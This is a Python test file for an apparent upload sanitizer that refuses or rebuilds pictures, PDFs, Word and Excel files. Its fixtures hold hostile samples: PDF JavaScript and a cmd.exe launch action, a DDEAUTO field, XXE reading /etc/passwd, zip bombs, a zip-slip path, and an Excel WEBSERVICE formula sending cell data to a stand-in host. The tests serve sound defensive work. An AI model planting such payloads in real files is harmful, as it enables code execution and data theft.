"""What comes in is made anew, or refused in a sentence that says what to do."""

from __future__ import annotations

import io
import zipfile

import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from tests.files import made

from homeward.files import apart, zips
from homeward.files.gate import accept
from homeward.files.kinds import LARGEST, Refused


def with_script(pdf: pikepdf.Pdf) -> None:
    act = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('Boo')"))
    run = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"), Next=pdf.make_indirect(act))
    pdf.Root.OpenAction = pdf.make_indirect(act)
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("a"), act]),
        Dests=pikepdf.Dictionary(Names=[]),
    )
    pdf.pages[0].AA = pikepdf.Dictionary(O=act)
    notes = [
        pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=run, Rect=[0, 0, 9, 9]),
        pikepdf.Dictionary(
            Subtype=pikepdf.Name.Link,
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.gov.uk/")),
        ),
        pikepdf.Dictionary(
            Subtype=pikepdf.Name.Link,
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:steal()")),
        ),
        pikepdf.Dictionary(Subtype=pikepdf.Name.Screen, A=act),
    ]
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(note) for note in notes]))
    field = pikepdf.Dictionary(FT=pikepdf.Name.Tx, T=pikepdf.String("f"), AA=pikepdf.Dictionary(K=act))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[pdf.make_indirect(field)])
    pdf.docinfo["/Author"] = "Ada Author"
    with pdf.open_metadata() as meta:
        meta["dc:title"] = "Secret title"


def with_a_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["notes.txt"] = b"hidden"


def with_a_form_of_adobe(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pdf.make_stream(b"<xdp/>"))


def field(text: str) -> str:
    """A field of Word whose instruction is written in pieces."""
    half = len(text) // 2
    pieces = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (text[:half], text[half:]))
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{pieces}</w:p>'


def linked_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("[Content_Types].xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


SAVE_AGAIN = "what is in the file is not that. Open it in the program it was made with"
ATTACKS = {
    "nothing": ("a.png", b"", "This file is empty. Choose it again"),
    "more than 25 MB": ("a.txt", b"x" * (LARGEST + 1), "larger than 25 MB. Make it smaller, or split it"),
    "an ending nobody knows": ("a.exe", b"MZ", "cannot tell what this file is .* Homeward keeps photos and drawings"),
    "no ending": ("notes", b"hello", "Homeward keeps photos and drawings"),
    "a program called a picture": ("a.png", b"MZ\x90\0", SAVE_AGAIN),
    "a PDF called a picture": ("a.jpg", made.pdf(), SAVE_AGAIN),
    "a picture called text": ("a.txt", made.picture(), SAVE_AGAIN),
    "SVG": ("a.svg", b"<svg onload='x()'/>", "An SVG drawing can carry a program.* Save it as PNG or PDF"),
    "SVG called a PNG": ("a.png", b"<?xml version='1.0'?><svg/>", "An SVG drawing can carry a program"),
    "HTML": ("a.html", b"<html>", "A web page can carry a program.* Print the page to PDF"),
    "HTML called text": ("a.txt", b"  <!DOCTYPE html><script>x()</script>", "A web page can carry a program"),
    "an iPhone photo": ("a.heic", b"\0\0\0 ftypheic", "iPhone photo .* Most Compatible"),
    "an iPhone photo called JPEG": ("a.jpg", b"\0\0\0 ftypheic\0\0", "iPhone photo .* Most Compatible"),
    "TIFF": ("a.tif", b"II*\0", "TIFF pictures are not kept. Open it, save it as PNG or PDF"),
    "TIFF called JPEG": ("a.jpeg", b"MM\0*", "TIFF pictures are not kept"),
    "an old Word file": ("a.doc", b"\xd0\xcf\x11\xe0", "of the old kind. Open it, save it as .docx"),
    "a Word file with a password": (
        "a.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        "of the old kind",
    ),
    "a film": ("a.mp4", b"\0\0\0 ftypisom", "Films and sound are not kept here"),
    "a zip": ("a.zip", made.zipped({"a.txt": "x"}), "Unpack it and add the files one at a time"),
    "a picture that says it is huge": (
        "a.png",
        made.png_that_says(13_000, 13_000),
        "larger than 50 million pixels or 12,000 pixels a side. Make it smaller",
    ),
    "a picture that is only long": ("a.png", made.png_that_says(12_001, 2), "12,000 pixels a side"),
    "half a picture": ("a.jpg", made.picture("JPEG")[:-400], "This picture is damaged or was cut off"),
    "a picture that moves": (
        "a.png",
        made.picture(save_all=True, append_images=[Image.new("RGB", (64, 32))]),
        "This picture moves. Save one frame",
    ),
    "a PDF with a password": (
        "a.pdf",
        made.pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
        "has a password or is protected. Open it, print it to PDF",
    ),
    "a PDF that may not be printed": (
        "a.pdf",
        made.pdf(encryption=pikepdf.Encryption(owner="o", user="")),
        "has a password or is protected",
    ),
    "a PDF with a file in it": ("a.pdf", made.pdf(with_a_file), "carries other files inside it. Save those"),
    "a form only Adobe can show": ("a.pdf", made.pdf(with_a_form_of_adobe), "only Adobe can show. Print it"),
    "half a PDF": ("a.pdf", b"%PDF-1.7\nrubbish", "This PDF is damaged or was cut off"),
    "a Word file with macros": ("a.docm", b"PK\x03\x04", "may hold macros"),
    "macros in a Word file called .docx": (
        "a.docx",
        made.docx("", ("v", "vbaProject", "vbaProject.bin"), word__vbaProject="x"),
        "holds macros .small programs.. Save it as .docx",
    ),
    "a main part with macros": ("a.docx", made.office("docm", made.document()), "holds macros"),
    "an Excel file called Word": ("a.docx", made.xlsx(), "this is not a Word document"),
    "a zip called Word": ("a.docx", made.zipped({"a.txt": "x"}), "This is not a whole Word file"),
    "half a Word file": ("a.docx", made.docx()[:-30], "not a whole zip file"),
    "a Word file that fetches a picture": (
        "a.docx",
        made.docx("", ("p", "image", "http://tracker.example/p.png")),
        "fetches a picture or a text from elsewhere",
    ),
    "a Word file with an object": (
        "a.docx",
        made.docx("", ("o", "oleObject", "embeddings/o.bin"), word__embeddings__o="x"),
        "carries another file inside it. Delete that",
    ),
    "a Word file with a web page in it": (
        "a.docx",
        made.docx("", ("o", "aFChunk", "a.htm")),
        "carries another file inside it",
    ),
    "a Word file that starts a program": (
        "a.docx",
        made.docx(field("DDEAUTO c:\\\\windows\\\\cmd.exe")),
        "from elsewhere when it is opened",
    ),
    "XML that names another file": (
        "a.docx",
        made.office("docx", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
        "not a whole Word file: it is damaged, or was made in a way",
    ),
    "XML that grows": (
        "a.xlsx",
        made.office("xlsx", '<!DOCTYPE a [<!ENTITY b "bbbbbbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'),
        "not a whole Excel file",
    ),
    "a workbook that reads another": (
        "a.xlsx",
        made.xlsx("", ("e", "externalLink", "externalLinks/e.xml")),
        "In Excel choose Data, Edit Links, Break Link",
    ),
    "a workbook that sends cells away": (
        "a.xlsx",
        made.xlsx('<c r="A1"><f>WEBSERVICE("http://x.example/"&amp;B1)</f></c>'),
        "from elsewhere when it is opened",
    ),
    "a zip bomb": (
        "a.xlsx",
        made.zipped({"[Content_Types].xml": b"<Types/>", "xl/a.xml": bytes(zips.RATIO_COUNTS_FROM + 1)}),
        "shrinks too well to be what it says",
    ),
    "more than 200 files": ("a.xlsx", made.zipped({f"{n}.xml": "" for n in range(201)}), "more than 200 files"),
    "a zip that writes elsewhere": ("a.docx", made.zipped({"../../x.xml": ""}), "points outside the zip"),
    "a zip with a link": ("a.docx", linked_zip(), "is a link, not a file"),
}  # fmt: skip


@pytest.mark.parametrize("what", ATTACKS)
def test_what_is_not_safe_is_refused_in_a_sentence(what: str) -> None:
    name, content, sentence = ATTACKS[what]
    with pytest.raises(Refused, match=sentence):
        accept(name, content)


@pytest.mark.parametrize(
    ("name", "form", "kind", "ext"),
    [
        ("Drawing.PNG", "PNG", "png", "png"),
        ("photo.jpeg", "JPEG", "jpeg", "jpg"),
        ("c:\\photos\\photo.webp", "WEBP", "webp", "webp"),
    ],
)
def test_a_picture_is_the_same_picture(name: str, form: str, kind: str, ext: str) -> None:
    kept = accept(name, made.picture(form))
    assert (kept.kind, kept.ext) == (kind, ext)
    seen = Image.open(io.BytesIO(kept.content)).convert("RGB")
    assert seen.size == (64, 32)
    red, green, _ = seen.getpixel((8, 16))
    assert red > 240
    assert green < 20


def test_a_photo_forgets_where_it_was_taken_and_stands_upright() -> None:
    photo = made.photo_with_a_place()
    assert b"Secret" in photo
    kept = accept("photo.jpg", photo).content
    seen = Image.open(io.BytesIO(kept))
    assert seen.size == (32, 64)
    assert not seen.getexif()
    assert set(seen.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
    for hidden in (b"Secret", b"Exif", b"xmp", b"ICC_PROFILE", b"Ada"):
        assert hidden not in kept


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGBA", "CMYK", "I;16"])
def test_pictures_of_every_mode_are_kept(mode: str) -> None:
    out = io.BytesIO()
    form = "JPEG" if mode == "CMYK" else "PNG"
    Image.new(mode, (8, 8)).save(out, form)
    kept = accept(f"a.{form.lower()}", out.getvalue())
    assert Image.open(io.BytesIO(kept.content)).mode in ("L", "RGB", "RGBA")


def test_a_pdf_loses_what_acts_and_keeps_its_page() -> None:
    kept = accept("letter.pdf", made.pdf(with_script)).content
    with pikepdf.open(io.BytesIO(kept)) as pdf:
        assert b"Hello" in pdf.pages[0].Contents.read_bytes()
        everything = b"".join(found.unparse(resolved=True) for found in pdf.objects)
        assert b"https://www.gov.uk/" in everything
        gone = (b"JavaScript", b"/JS", b"/AA", b"Launch", b"cmd.exe", b"OpenAction", b"steal", b"Screen")
        assert [word for word in gone if word in everything] == []
        assert "/Info" not in pdf.trailer
        assert "/Metadata" not in pdf.Root
    assert b"Ada Author" not in kept


def test_a_word_file_keeps_its_words_and_pictures_and_nothing_of_its_writer() -> None:
    inside = (
        '<w:p><w:hyperlink r:id="h"><w:r><w:t>Hello</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="n"><w:r><w:t>There</w:t></w:r></w:hyperlink><w:drawing r:embed="p"/></w:p>'
    )
    sent = made.docx(
        inside,
        ("h", "hyperlink", "https://www.gov.uk/"),
        ("n", "hyperlink", "file:///server/share"),
        ("p", "image", "media/a.png"),
        ("s", "settings", "settings.xml"),
        ("c", "customXml", "../customXml/item1.xml"),
        word__media__a_png=made.picture(),
        word__settings_xml=f'<w:settings xmlns:w="{made.WORD}" xmlns:r="{made.OFFICE}"><w:attachedTemplate r:id="t"/>'
        "</w:settings>",
        word___rels__settings_xml="",
        customXml__item1_xml="<a>Ada Author</a>",
    )
    # The helper cannot name this part.
    out = io.BytesIO(sent)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(
            "word/_rels/settings.xml.rels",
            made.pointers(("t", "attachedTemplate", "file:///C:/Users/ada/Normal.dotm")),
        )
    kept = accept("report.docx", out.getvalue()).content
    with zipfile.ZipFile(io.BytesIO(kept)) as archive:
        assert set(archive.namelist()) == {
            "[Content_Types].xml",
            "_rels/.rels",
            "word/_rels/document.xml.rels",
            "word/_rels/settings.xml.rels",
            "word/document.xml",
            "word/media/a.png",
            "word/settings.xml",
        }
        everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"Hello" in everything
    assert b"There" in everything
    assert b"https://www.gov.uk/" in everything
    for gone in (b"ada", b"Ada", b"attachedTemplate", b"share", b"customXml"):
        assert gone not in everything


def test_a_workbook_keeps_its_cells() -> None:
    from homeward.files.workbooks import sheets

    assert sheets("a.xlsx", accept("a.xlsx", made.xlsx()).content) == [("One", [["Hello"]])]


def test_text_is_kept_as_utf_8_without_signs_that_nobody_sees() -> None:
    kept = accept("note.txt", "Zoë said \u202e“yes”\x07\n".encode("cp1252", "ignore")).content.decode()
    assert kept == "Zoë said “yes”\n"
    assert accept("note.txt", "\ufeffa\u202eb".encode()).content == b"ab"
    with pytest.raises(Refused, match="save it as plain text"):
        accept("note.txt", b"a\0b")


def test_what_was_accepted_is_accepted_again() -> None:
    for name, content in (
        ("a.jpg", made.photo_with_a_place()),
        ("a.png", made.picture()),
        ("a.pdf", made.pdf(with_script)),
        ("a.docx", made.docx()),
        ("a.xlsx", made.xlsx()),
    ):
        once = accept(name, content)
        assert accept(name, once.content).kind == once.kind


def test_a_file_that_never_comes_to_an_end_is_stopped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(apart, "SECONDS", 0.01)
    with pytest.raises(Refused, match="takes too long or too much memory"):
        accept("a.png", made.picture())


def test_the_process_can_open_nothing() -> None:
    import subprocess
    import sys

    tried = (
        "import socket\nfrom homeward.files.apart import shut_in\nshut_in()\n"
        "for call in (lambda: open('/etc/passwd'), socket.socket, lambda: bytearray(10**10)):\n"
        "    try:\n        call()\n        print('open')\n"
        "    except (OSError, MemoryError) as error:\n        print(type(error).__name__)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", tried], env={"PYTHONPATH": apart._SOURCE}, capture_output=True, text=True
    )
    assert done.stdout.split() == ["OSError", "OSError", "MemoryError"]


@given(
    st.sampled_from([made.picture(), made.picture("JPEG"), made.pdf(), made.docx(), made.xlsx()]),
    st.lists(st.tuples(st.floats(0, 1), st.binary(min_size=1, max_size=4)), max_size=4),
    st.sampled_from(["png", "jpg", "pdf", "docx", "xlsx", "txt"]),
)
@settings(max_examples=20)
def test_any_bytes_are_kept_or_refused_in_a_sentence(
    content: bytes, changes: list[tuple[float, bytes]], ending: str
) -> None:
    broken = bytearray(content)
    for place, other in changes:
        at = int(place * (len(broken) - 1))
        broken[at : at + len(other)] = other
    try:
        accept(f"a.{ending}", bytes(broken))
    except Refused as refused:
        assert str(refused).endswith((".", "(.txt)."))
